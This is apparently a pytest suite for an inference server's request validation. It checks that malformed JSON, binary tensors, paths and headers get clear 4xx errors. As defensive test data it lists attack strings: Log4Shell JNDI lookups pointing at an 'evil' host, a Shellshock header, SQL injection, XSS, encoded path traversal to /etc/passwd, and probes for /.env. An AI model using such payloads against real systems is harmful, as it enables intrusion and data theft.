"""Every mistake of a client is a 4xx that says what was expected; none is a 500, a hang or a dead server."""

from __future__ import annotations

import json
from typing import Any

import numpy as np
import pytest

from tests import models_factory
from tests.serving.servers import Server, binary_body, running, tensor

X = tensor("x", [1, 8], "FP32", [0.5] * 8)


def changed(**more: Any) -> dict[str, Any]:
    """A request whose only input differs from a good one."""
    return {"inputs": [{**X, **more}]}


def without(name: str) -> dict[str, Any]:
    """A request whose only input lacks something."""
    return {"inputs": [{key: value for key, value in X.items() if key != name}]}


#: What is sent, and words that the answer must hold.
DOCUMENTS: dict[str, tuple[Any, tuple[str, ...]]] = {
    "no JSON": (b"hello", ("not valid JSON",)),
    "empty": (b"", ("empty", "x FP32 [-1, 8]")),
    "spaces": (b"  \n ", ("empty",)),
    "cut off": (b'{"inputs": [', ("not valid JSON",)),
    "deep": (b"[" * 5000, ("not valid JSON",)),
    "not UTF-8": (b'{"inputs": "\xff"}', ("not valid JSON",)),
    "NaN": (b'{"inputs":[{"name":"x","shape":[1,8],"datatype":"FP32","data":[NaN,0,0,0,0,0,0,0]}]}', ("JSON",)),
    "a list": ([], ("JSON object", "inputs")),
    "a number": (7, ("JSON object",)),
    "null": (None, ("JSON object",)),
    "no inputs": ({}, ("'inputs'", "x FP32 [-1, 8]")),
    "inputs an object": ({"inputs": X}, ("'inputs' must be a list",)),
    "inputs of numbers": ({"inputs": [1]}, ("no input",)),
    "no such input": ({"inputs": [X, {**X, "name": "z"}]}, ("'z'", "x FP32")),
    "name a number": (changed(name=3), ("no input",)),
    "name a list": (changed(name=["x"]), ("no input",)),
    "twice": ({"inputs": [X, X]}, ("'x' is given twice",)),
    "missing": ({"inputs": []}, ("'x' is missing",)),
    "wrong datatype": (changed(datatype="INT64"), ("must be FP32", "INT64")),
    "no datatype": (without("datatype"), ("must be FP32",)),
    "datatype a list": (changed(datatype=[]), ("must be FP32",)),
    "no shape": (without("shape"), ("'shape'", "[-1, 8]")),
    "shape a number": (changed(shape=8), ("'shape'",)),
    "shape of floats": (changed(shape=[1.0, 8]), ("'shape'",)),
    "shape of true": (changed(shape=[True, 8]), ("'shape'",)),
    "negative": (changed(shape=[-1, 8]), ("'shape'",)),
    "huge": (changed(shape=[2**62, 8]), ("'shape'",)),
    "too many axes": (changed(shape=[1, 1, 8]), ("[-1, 8]", "[1, 1, 8]")),
    "wrong size": (changed(shape=[1, 9]), ("[-1, 8]", "[1, 9]")),
    "too few": (changed(data=[0.5] * 7), ("8 elements", "got 7")),
    "too many": (changed(data=[0.5] * 9), ("8 elements", "got 9")),
    "no data": (without("data"), ("'data'",)),
    "data a string": (changed(data="abc"), ("'data'",)),
    "a string among numbers": (changed(data=[0.5] * 7 + ["1.5"]), ("FP32", "'1.5'")),
    "true among numbers": (changed(data=[0.5] * 7 + [True]), ("FP32", "True")),
    "null among numbers": (changed(data=[0.5] * 7 + [None]), ("FP32", "None")),
    "an object among numbers": (changed(data=[0.5] * 7 + [{}]), ("FP32",)),
    "too large a number": (changed(data=[0.5] * 7 + [1e300]), ("does not fit", "1e+300")),
    "ragged": (changed(shape=[2, 8], data=[[0.5] * 9, [0.5] * 7]), ("nested",)),
    "nested otherwise": (changed(shape=[1, 8], data=[[0.5] * 4, [0.5] * 4]), ("nested",)),
    "nested too deep": (changed(data=[[[0.5] * 8]]), ("nested", "[1, 8]")),
    "half nested": (changed(shape=[2, 8], data=[[0.5] * 8, 0.5]), ("nested",)),
    "parameters a list": (changed(parameters=[1]), ("'parameters'",)),
    "binary size without bytes": (changed(parameters={"binary_data_size": 32}), ("'data' and 'binary_data_size'",)),
    "shared memory": (changed(parameters={"shared_memory_region": "r"}), ("shared memory",)),
    "id a number": ({"inputs": [X], "id": 5}, ("'id'",)),
    "id too long": ({"inputs": [X], "id": "i" * 300}, ("'id'",)),
    "id an injection": ({"inputs": [X], "id": "${jndi:ldap://x}"}, ("'id'",)),
    "no such output": ({"inputs": [X], "outputs": [{"name": "z"}]}, ("'z'", "y")),
    "output twice": ({"inputs": [X], "outputs": [{"name": "y"}, {"name": "y"}]}, ("twice",)),
    "outputs of strings": ({"inputs": [X], "outputs": ["y"]}, ("no output",)),
    "outputs a number": ({"inputs": [X], "outputs": 1}, ("'outputs'",)),
    "binary_data a string": (
        {"inputs": [X], "outputs": [{"name": "y", "parameters": {"binary_data": "yes"}}]}, ("'binary_data'",)),
    "output parameters": ({"inputs": [X], "outputs": [{"name": "y", "parameters": 1}]}, ("'binary_data'",)),
    "binary_data_output": ({"inputs": [X], "parameters": {"binary_data_output": 1}}, ("'binary_data_output'",)),
    "request parameters": ({"inputs": [X], "parameters": [1]}, ("'parameters'",)),
    "timeout": ({"inputs": [X], "parameters": {"timeout": "soon"}}, ("'timeout'", "microseconds")),
}  # fmt: skip


@pytest.mark.parametrize("what", DOCUMENTS)
def test_a_mistake_in_the_document_is_a_400_with_words(small: Server, what: str) -> None:
    document, words = DOCUMENTS[what]
    answer = small.infer(document)
    assert answer.status == 400, answer
    for word in words:
        assert word in answer.error


HEAD = {"name": "x", "shape": [1, 8], "datatype": "FP32"}
BINARY: dict[str, tuple[list[dict[str, Any]], bytes, str | None, tuple[str, ...]]] = {
    "too short": ([{**HEAD, "parameters": {"binary_data_size": 28}}], b"\0" * 28, None, ("32 bytes", "got 28")),
    "says too much": ([{**HEAD, "parameters": {"binary_data_size": 32}}], b"\0" * 20, None, ("20 bytes are left",)),
    "bytes left over": ([{**HEAD, "parameters": {"binary_data_size": 32}}], b"\0" * 40, None, ("8 bytes after",)),
    "negative": ([{**HEAD, "parameters": {"binary_data_size": -1}}], b"", None, ("binary_data_size",)),
    "a string": ([{**HEAD, "parameters": {"binary_data_size": "32"}}], b"\0" * 32, None, ("binary_data_size",)),
    "true": ([{**HEAD, "parameters": {"binary_data_size": True}}], b"\0", None, ("binary_data_size",)),
    "huge": ([{**HEAD, "parameters": {"binary_data_size": 2**70}}], b"", None, ("not valid JSON", "binary_data_size")),
    "header too long": ([X], b"", "9999", ("9999", "the body has")),
    "header 0": ([X], b"", "0", ("Inference-Header-Content-Length",)),
    "header negative": ([X], b"", "-5", ("whole number",)),
    "header a word": ([X], b"", "all", ("whole number",)),
    "header huge": ([X], b"", "9" * 40, ("whole number",)),
}  # fmt: skip


@pytest.mark.parametrize("what", BINARY)
def test_a_mistake_in_binary_tensors_is_a_400_with_words(small: Server, what: str) -> None:
    inputs, tail, header, words = BINARY[what]
    body, headers = binary_body({"inputs": inputs}, tail)
    if header is not None:
        headers = {"Inference-Header-Content-Length": header}
    answer = small.infer(body, headers)
    assert answer.status == 400, answer
    assert any(word in answer.error for word in words), answer.error


INTEGERS = {
    "uint8": (-1, 256), "uint16": (-1, 2**16), "uint32": (-1, 2**32), "uint64": (-1, 2**64), "int8": (-129, 128),
    "int16": (-(2**15) - 1, 2**15), "int32": (-(2**31) - 1, 2**31), "int64": (-(2**63) - 1, 2**63),
}  # fmt: skip


@pytest.mark.parametrize("kind", INTEGERS)
def test_whole_numbers_that_do_not_fit_are_refused(typed: Server, kind: str) -> None:
    inputs = [tensor(each, [0], each.upper(), []) for each in models_factory.ALL_TYPES if each != kind]
    for number in (*INTEGERS[kind], 1.5, True, "1"):
        answer = typed.infer({"inputs": [*inputs, tensor(kind, [1], kind.upper(), [number])]})
        assert answer.status == 400, (number, answer)
        assert kind.upper() in answer.error
    good = typed.infer({"inputs": [*inputs, tensor(kind, [1], kind.upper(), [1])]})
    assert good.status == 200, good


@pytest.mark.parametrize(
    ("kind", "shape", "raw", "word"),
    [
        ("bool", [2], b"\x01\x02", "0 or 1"),
        ("bytes", [1], b"\x05\0\0\0abc", "longer than"),
        ("bytes", [1], b"\x01\0", "longer than"),
        ("bytes", [1], b"\x01\0\0\0a\x01\0\0\0b", "got more"),
        ("bytes", [2], b"\x01\0\0\0a", "got 1"),
        ("bytes", [1], b"\x01\0\0\0\xff", "not UTF-8"),
        ("bytes", [0], b"\xff\xff\xff\xff", "longer than"),
        ("fp16", [3], b"\0" * 5, "6 bytes"),
    ],
)
def test_raw_bytes_of_special_types(typed: Server, kind: str, shape: list[int], raw: bytes, word: str) -> None:
    inputs: list[dict[str, Any]] = [
        tensor(each, [0], each.upper(), []) for each in models_factory.ALL_TYPES if each != kind
    ]
    inputs.append({"name": kind, "shape": shape, "datatype": kind.upper(),
                   "parameters": {"binary_data_size": len(raw)}})  # fmt: skip
    body, headers = binary_body({"inputs": inputs}, raw)
    answer = typed.infer(body, headers)
    assert answer.status == 400, answer
    assert word in answer.error


def test_what_only_the_model_can_refuse_is_a_4xx_and_remembered() -> None:
    with running(models_factory.embedding(vocabulary=10)) as server:
        answer = server.infer({"inputs": [tensor("ids", [1, 1], "INT64", [10])]})
        assert answer.status == 400
        assert "idx=10" in answer.error
        assert server.infer({"inputs": [tensor("ids", [1, 1], "INT64", [9])]}).status == 200
    with running(models_factory.reshape()) as server:
        x = tensor("x", [6], "FP32", [1, 2, 3, 4, 5, 6])
        good = server.infer({"inputs": [x, tensor("shape", [2], "INT64", [2, 3])]})
        assert good.json["outputs"][0]["shape"] == [2, 3]
        answer = server.infer({"inputs": [x, tensor("shape", [2], "INT64", [4, 4])]})
        assert answer.status == 422
        assert "cannot compute" in answer.error
        assert "cannot compute" in server.ask("GET", "/health", admin=True).json["last_errors"][0]["error"]
        assert server.infer({"inputs": [x, tensor("shape", [2], "INT64", [1, 6])]}).status == 200


PATHS: dict[str, tuple[str, str, int, str]] = {
    "unknown": ("GET", "/nothing", 404, "/v2/models/m"),
    "root": ("GET", "/", 404, "nothing is at"),
    "other model": ("POST", "/v2/models/other/infer", 404, "'m'"),
    "other version": ("POST", "/v2/models/m/versions/2/infer", 404, "'1'"),
    "get infer": ("GET", "/v2/models/m/infer", 405, "POST"),
    "post health": ("POST", "/v2/health/live", 405, "GET"),
    "delete": ("DELETE", "/v2/models/m", 405, "GET"),
    "metrics on the main listener": ("GET", "/metrics", 404, "nothing is at"),
    "traversal": ("GET", "/v2/models/../../etc/passwd", 400, "pattern"),
    "encoded traversal": ("GET", "/v2/models/%2e%2e%2f%2e%2e/ready", 400, "pattern"),
    "encoded twice": ("GET", "/v2/models/%252e%252e%252f/ready", 400, "pattern"),
    "backslash": ("GET", "/v2\\models", 400, "pattern"),
    "null": ("GET", "/v2/models/m%00.onnx", 400, "pattern"),
    "bad name": ("GET", "/v2/models/a b%20c", 400, ""),
    "name with markup": ("GET", "/v2/models/%5Bred%5Dx", 400, "names of models"),
    "name with an escape": ("GET", "/v2/models/%1b%5B31m", 400, "pattern"),
    "long name": ("GET", "/v2/models/" + "a" * 65, 400, "names of models"),
    "query": ("GET", "/v2?x=1%20UNION%20SELECT%20password", 400, "pattern"),
    "script": ("GET", "/v2?x=<script>alert(1)</script>", 400, "pattern"),
    "probe": ("GET", "/.env", 400, "pattern"),
    "wordpress": ("GET", "/wp-login.php", 400, "pattern"),
}


@pytest.mark.parametrize("what", PATHS)
def test_paths_and_methods(small: Server, what: str) -> None:
    method, path, status, word = PATHS[what]
    answer = small.ask(method, path, b"" if method == "POST" else None)
    assert answer.status == status, answer
    assert word in answer.error
    if status == 405:
        assert answer.headers["allow"] == word


HEADERS: dict[str, tuple[dict[str, str], int]] = {
    "log4shell": ({"User-Agent": "${jndi:ldap://evil/a}"}, 400),
    "log4shell in disguise": ({"Referer": "${${::-j}ndi:rmi://x}"}, 400),
    "shellshock": ({"User-Agent": "() { :; }; echo"}, 400),
    "injection": ({"X-Forwarded-For": "1' or '1'='1"}, 400),
    "gzip that is none": ({"Content-Encoding": "gzip"}, 400),
    "brotli": ({"Content-Encoding": "br"}, 415),
    "a form": ({"Content-Type": "multipart/form-data; boundary=x"}, 415),
    "curl's default": ({"Content-Type": "application/x-www-form-urlencoded"}, 200),
    "a browser": ({"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"}, 200),
    "an apostrophe": ({"X-Note": "it's fine; really & truly | so"}, 200),
    "a secret": ({"Authorization": "Bearer ${jndi:ldap://evil/a}"}, 200),
}


@pytest.mark.parametrize("what", HEADERS)
def test_headers(small: Server, what: str) -> None:
    headers, status = HEADERS[what]
    answer = small.infer({"inputs": [X]}, headers)
    assert answer.status == status, answer


def test_tensors_are_never_screened(typed: Server) -> None:
    inputs = [tensor(each, [0], each.upper(), []) for each in models_factory.ALL_TYPES if each != "bytes"]
    text = "'; drop table x; ${jndi:ldap://a} ../../etc/passwd <script>"
    answer = typed.infer({"inputs": [*inputs, tensor("bytes", [1], "BYTES", [text])]})
    assert answer.status == 200
    assert {output["name"]: output for output in answer.json["outputs"]}["bytes_out"]["data"] == [text]


def test_random_binary_tensors_are_never_taken_for_an_attack(small: Server) -> None:
    rng = np.random.default_rng(3)
    before = small.metric("nimify_security_events_total{action=\"refused\",category=\"refused\"")
    for _ in range(50):
        raw = rng.bytes(32 * 50)
        clean = np.nan_to_num(np.frombuffer(raw, np.float32), nan=0, posinf=0, neginf=0).tobytes()
        document = {"inputs": [{"name": "x", "shape": [50, 8], "datatype": "FP32",
                                "parameters": {"binary_data_size": 1600}}],
                    "parameters": {"binary_data_output": True}}  # fmt: skip
        body, headers = binary_body(document, clean)
        assert small.infer(body, headers).status == 200
    assert small.metric("nimify_security_events_total{action=\"refused\",category=\"refused\"") == before


def test_the_server_is_well_after_all_that(small: Server) -> None:
    assert json.loads(small.infer({"inputs": [X]}).body)["outputs"][0]["shape"] == [1, 4]
    assert small.metric('nimify_inference_requests_total{code="5') == 0
